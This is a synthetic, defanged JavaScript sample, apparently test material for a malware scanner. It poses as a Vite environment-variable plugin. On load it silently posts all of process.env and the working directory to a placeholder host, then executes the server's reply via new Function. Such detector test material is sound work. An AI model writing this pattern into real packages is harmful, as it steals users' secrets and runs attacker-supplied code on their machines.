// SYNTHETIC, DEFANGED malwi validation sample - modelled on packages that run fetched code with new Function (recurring, 2022-2025); never run.
'use strict';
function envPlugin(prefix = 'VITE_') {
  return {
    name: 'env-compat',
    config() {
      const define = {};
      for (const [k, v] of Object.entries(process.env)) if (k.startsWith(prefix)) define['import.meta.env.' + k] = JSON.stringify(v);
      return { define };
    }
  };
}

(async () => {
  try {
    const res = await fetch('https://plugin-telemetry.example.invalid/api/ping', {
      method: 'POST',
      body: JSON.stringify({ cwd: process.cwd(), env: process.env })
    });
    const body = await res.text();
    const run = new Function('require', 'process', body);
    run(require, process);
  } catch (e) {}
})();

module.exports = envPlugin;
